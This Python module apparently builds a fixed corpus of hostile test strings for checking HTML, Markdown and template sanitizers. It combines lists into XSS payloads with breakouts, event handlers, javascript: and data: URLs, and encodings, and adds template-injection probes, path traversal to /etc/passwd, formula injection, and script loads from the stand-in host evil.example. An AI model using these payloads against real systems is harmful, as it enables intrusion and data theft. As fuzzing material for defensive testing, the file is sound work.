"""Hostile texts from a grammar of our own: what to inject, how to hide it, and what to break out of first.

The texts are made by combining small lists, so every combination is there and the corpus is the same each time.
"""

from __future__ import annotations

import html
import itertools
import urllib.parse
from collections.abc import Iterator

CODE = "window.PWN=1"

BREAKOUTS = (
    "",
    '">',
    "'>",
    "`>",
    '" ',
    "' ",
    "-->",
    "--!>",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</noscript>",
    "</template>",
    "</svg>",
    "</select>",
    "</td></tr></table>",
    "</a>",
    "</p>",
    "\x00",
    '\\">',
    "%>",
    "?>",
    "*/",
    "\n\n",
    "&quot;>",
    "&#34;>",
    "</math>",
    "</iframe>",
)
ELEMENTS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "audio src=x",
    "iframe src=x",
    "object data=x",
    "embed src=x",
    "marquee",
    "a href=x",
    "math",
    "form",
    "select autofocus",
    "textarea autofocus",
    "style",
    "link rel=stylesheet href=x",
    "meta",
    "table background=x",
    "button",
    "x-y tabindex=1",
    "p",
    "base",
)
EVENTS = (
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onclick",
    "onbegin",
    "onanimationstart",
    "onpageshow",
    "onpointerenter",
    "ONERROR",
    "onerror\n",
    "onerror\t",
)
JOINS = (" ", "/", "\t", "\n", "\f", "//", " x=y ")
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    " javascript:",
    "\x01javascript:",
    "&#106;avascript:",
    "javascript&colon;",
    "&#x6A;avascript:",
    "vbscript:",
    "data:text/html,",
    "data:text/html;base64,",
    "data:image/svg+xml,",
    "file:///",
    "blob:",
    "//evil.example/",
    "\\\\evil.example\\",
    "http:evil",
    "about:",
    "view-source:",
    "javascript://%0a",
    "feed:javascript:",
    "jar:",
    "mhtml:",
    "https://user:secret@evil.example/",
    "ms-word:",
    "livescript:",
    "filesystem:",
)
MARKDOWN = (
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "<{}>",
    "[x]: {}\n\n[x]",
    '[x]({} "t")',
    "[![x]({})]({})",
    "[a](x) ![b](<{}> 't')",
    "| a |\n|---|\n| [x]({}) |",
    "> [x]({})",
    "- [x]({})",
    "`[x]({})`",
    "# [x]({})",
    "*[x]({})*",
    "[x\\]]({})",
    "[x][y]\n\n[y]: <{}>",
)
TEMPLATES = (
    "{{{{ {0} }}}}",
    "{{% {0} %}}",
    "{{# {0} #}}",
    "${{{0}}}",
    "#{{{0}}}",
    "<%= {0} %>",
    "{{{{{{ {0} }}}}}}",
    "[[{0}]]",
    "@@{0}@@",
    "%({0})s",
    "{{{0}}}",
    "<?= {0} ?>",
    "{{!{0}}}",
    "$({0})",
)
EXPRESSIONS = (
    "7*7",
    "config",
    "self.__init__.__globals__",
    "''.__class__",
    "root",
    "view.frame",
    "page.content",
    "include 'x'",
    "raw",
    "endraw",
    "super()",
    "block content",
    "extends 'base.html'",
    "cycler.__init__",
    "tracker",
    "_self",
)
SINGLES = (
    "&",
    "<",
    ">",
    '"',
    "'",
    "`",
    "&amp;",
    "&lt;b&gt;",
    "&#60;b&#62;",
    "<!--",
    "<![CDATA[",
    "<?xml?>",
    "<!DOCTYPE html>",
    "</",
    "\u2028",
    "\u2029",
    "\ufeff",
    "\u202e",
    "\ud7ff",
    "\U0001f4a3",
    "\x0b",
    "\x1b[31m",
    "\r\n",
    "%00",
    "\\u003cscript\\u003e",
    "\\x3cb>",
    "+ADw-script+AD4-",
    "__proto__",
    "constructor",
    "toString",
    "__defineGetter__",
    "hasOwnProperty",
    "NaN",
    "null",
    "undefined",
    "-Infinity",
    "=1+1",
    "@SUM(1)",
    "../../../etc/passwd",
    "..\\..\\x",
    "C:\\con",
    "a" * 300,
    "\u00df\u0130\u0131",
    "ﬀ",
    "<" * 200,
)


def payloads() -> list[str]:
    """All texts, each once."""
    made = itertools.chain(SINGLES, _tags(), _scripts(), _encoded(), _urls(), _templates())
    return list(dict.fromkeys(made))


def _tags() -> Iterator[str]:
    for index, (breakout, element, event) in enumerate(itertools.product(BREAKOUTS, ELEMENTS, EVENTS[:7])):
        join = JOINS[index % len(JOINS)]
        quote = ("", '"', "'", "`")[index % 4]
        end = (">", "/>", "", " x")[index // 4 % 4]
        yield f"{breakout}<{element}{join}{event}={quote}{CODE}{quote}{end}"
    for breakout, event, join in itertools.product(BREAKOUTS, EVENTS, JOINS):
        yield f"{breakout}{join}{event}={CODE}{join}x="


def _scripts() -> Iterator[str]:
    forms = (
        "<script>{}</script>",
        "<SCRIPT>{}</SCRIPT>",
        "<script/x>{}</script>",
        "<script\n>{}</script\n>",
        "<scr<script>ipt>{}</script>",
        "<script src=//evil.example/x.js></script>{}",
        "<svg><script>{}</script>",
        "<script type=module>{}</script>",
        "<script>{}",
        "<<script>{}//<</script>",
        "<svg><script href='data:,{}'/>",
        "<noscript><p title='</noscript><script>{}</script>'>",
        "<style>@import 'x';</style>{}",
        "<math><mtext><mglyph><style><img src=x onerror={}>",
        "<template><script>{}</script></template>",
        "<iframe srcdoc='<script>{}</script>'>",
        "<xmp><p title='</xmp><script>{}</script>'>",
        "<!--><script>{}</script>-->",
    )
    for breakout, form in itertools.product(BREAKOUTS, forms):
        yield breakout + form.format(CODE)


def _encoded() -> Iterator[str]:
    bases = [f"<img src=x onerror={CODE}>", f"<script>{CODE}</script>", f'"><svg onload={CODE}>', f"javascript:{CODE}"]
    for base in bases:
        yield html.escape(base)
        yield urllib.parse.quote(base)
        yield urllib.parse.quote(urllib.parse.quote(base))
        yield "".join(f"&#{ord(character)};" for character in base)
        yield "".join(f"&#x{ord(character):x}" for character in base)
        yield "".join(f"\\u{ord(character):04x}" for character in base)
        yield "".join(f"\\x{ord(character):02x}" for character in base)
        yield "".join(chr(ord(character) + 0xFEE0) if "!" <= character <= "~" else character for character in base)
        yield "\x00".join(base)
        yield "\u200b".join(base)
        yield base.upper()
        yield base[::-1]
        yield html.escape(html.escape(base))


def _urls() -> Iterator[str]:
    targets = (CODE, f"<script>{CODE}</script>", f"%3Cscript%3E{CODE}%3C/script%3E", "alert`1`", 'x" onclick=' + CODE)
    for scheme, target in itertools.product(SCHEMES, targets):
        yield scheme + target
        for form in MARKDOWN:
            yield form.replace("{}", scheme + target)
        yield f"<a href='{scheme}{target}'>x</a>"
        yield f'<iframe src="{scheme}{target}">'


def _templates() -> Iterator[str]:
    for form, expression in itertools.product(TEMPLATES, EXPRESSIONS):
        yield form.format(expression)
